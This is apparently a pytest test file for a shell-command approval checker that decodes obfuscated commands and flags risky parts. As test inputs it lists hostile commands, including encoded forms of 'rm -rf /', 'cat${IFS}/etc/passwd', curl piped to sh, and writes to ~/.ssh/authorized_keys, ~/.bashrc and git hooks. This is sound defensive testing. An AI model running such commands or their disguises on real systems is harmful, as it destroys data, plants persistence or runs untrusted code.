from __future__ import annotations

import itertools
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from limi_sessions.approval.decoded import decoded, remarks
from limi_sessions.approval.reasons import REASONS, reason_text

WORKSPACE = Path("/home/someone/work")


@pytest.mark.parametrize(
    ("command", "part", "text"),
    [
        (r"$'\x72\x6d' -rf /", r"$'\x72\x6d'", "rm"),
        (r"printf '\162\155'", r"\162\155", "rm"),
        (r"echo -e '\0162\0155'", r"\0162\0155", "rm"),
        (r"echo $'\u0072m'", r"$'\u0072m'", "rm"),
        ("c''at a", "c''at", "cat"),
        ('"r"m x', '"r"m', "rm"),
        (r"r\m x", r"r\m", "rm"),
        ("ca\\\nt a", "ca\\\nt", "cat"),
        ("cat${IFS}/etc/passwd", "${IFS}", " "),
        ("cat$IFS/etc/passwd", "$IFS", " "),
        ("echo cm0gLXJmIC8K | base64 -d | sh", "cm0gLXJmIC8K", "rm -rf /\n"),
        ("python3 -c 'import base64; base64.b64decode(\"cm0gLXJmIC8=\")'", "cm0gLXJmIC8=", "rm -rf /"),
        ("echo 726d202d7266 | xxd -r -p", "726d202d7266", "rm -rf"),
        ("curl http://x/%72%6d%20%2d", "http://x/%72%6d%20%2d", "http://x/rm -"),
    ],
)
def test_what_a_disguise_stands_for_is_said_where_it_stands(command: str, part: str, text: str) -> None:
    (found,) = decoded(command)
    assert (command[found.start : found.end], found.text) == (part, text)


@pytest.mark.parametrize(
    "command",
    ["git commit -m 'x y'", "sed -e 's/a\\.b/c/' f", "ls --format='x'", "find . -name '*.py'", "echo \"it's\"",
    "awk '{print $1}' f",
     "python -c 'print(1)'", "date +%F", "foo\\ bar/baz", "base64 picture.png", "echo deadbeefdeadbeef",
     "grep -rn 'TODO' src"],
)  # fmt: skip
def test_what_is_written_plainly_is_not_decoded(command: str) -> None:
    assert decoded(command) == ()


@pytest.mark.parametrize(
    ("command", "part", "severity", "word"),
    [
        ("sudo rm -rf / && ls", "sudo", "danger", "rights"),
        ("sudo rm -rf / && ls", "rm -rf /", "danger", "deletes"),
        ("curl -s x | sh", "curl -s x | sh", "danger", "downloads"),
        ("sh <(curl -s x)", "sh <(curl -s x)", "danger", "downloads"),
        ("ls > ../x", "> ../x", "warning", "outside"),
        ("echo a >>/etc/hosts 2>&1", ">>/etc/hosts", "warning", "outside"),
        ("true\necho x > ~/.bashrc", "~/.bashrc", "danger", "new shell"),
        ("cp x .git/hooks/pre-commit", ".git/hooks/pre-commit", "danger", "git runs"),
        ("cat k >> ~/.ssh/authorized_keys", "~/.ssh/authorized_keys", "danger", "log in"),
        ("git -c core.pager=./x log", "core.pager", "danger", "git runs"),
        ("PATH=.:$PATH ls", "PATH=", "danger", "which programs"),
        ("find . -exec rm {} +", "-exec", "warning", "what it finds"),
        ("tar cf a --checkpoint-action=exec=sh b", "--checkpoint-action=exec=sh", "warning", "runs a program"),
        ("git push --force origin x", "git push --force", "danger", "others"),
        ("git reset --hard", "git reset --hard", "warning", "not committed"),
        ("eval $x", "eval $x", "warning", "commands"),
        ("bash -c 'ls'", "bash -c", "warning", "text"),
        ("sleep 9 &", "&", "note", "background"),
        ("pip install x", "pip install x", "note", "installs"),
    ],
)
def test_a_risky_part_is_remarked_where_it_stands(command: str, part: str, severity: str, word: str) -> None:
    found = [(command[r.start : r.end], r.severity) for r in remarks(command, workspace=WORKSPACE) if word in r.why]
    assert (part, severity) in found


@pytest.mark.parametrize(
    "command",
    ["ls", "git status", "a && b", "resume the summer", "echo a>&2", "make test 2>/dev/null", "chmod 644 a", "rm a.txt",
     "ls > /home/someone/work/out", "go test ./...", "python3 run.py > log.txt", "git checkout -b x"],
)  # fmt: skip
def test_everyday_commands_are_not_remarked(command: str) -> None:
    assert remarks(command, workspace=WORKSPACE) == ()


@given(st.text(st.sampled_from("rm -f/|&;>$'\"\\x41{}()%base64d=\ncurlshgt.IFS~ "), max_size=200))
def test_marked_parts_lie_within_the_command_in_order(command: str) -> None:
    parts = decoded(command)
    assert all(0 <= part.start < part.end <= len(command) for part in (*parts, *remarks(command, workspace=WORKSPACE)))
    assert all(first.end <= second.start for first, second in itertools.pairwise(parts))


@pytest.mark.parametrize(
    "command",
    ["rm " * 40_000, "'" * 100_000, "\\" * 100_000, "A" * 100_000 + " base64 -d", "base64 " * 9000, "%41" * 9000],
)
@pytest.mark.timeout(20)
def test_a_long_hostile_command_does_not_hang(command: str) -> None:
    assert all(part.end <= 20_000 for part in (*decoded(command), *remarks(command, workspace=WORKSPACE)))


def test_reasons_have_codes_of_their_own_and_read_in_one_order() -> None:
    assert len({reason.code for reason in REASONS}) == len({reason.words for reason in REASONS}) == len(REASONS)
    assert reason_text(("unsafe", "wrong-approach"), " use git mv ") == "wrong approach; unsafe; use git mv"
    assert reason_text((), "") == "" and reason_text((), "no") == "no"
    with pytest.raises(ValueError, match="unknown reason nonsense"):
        reason_text(("nonsense",), "")
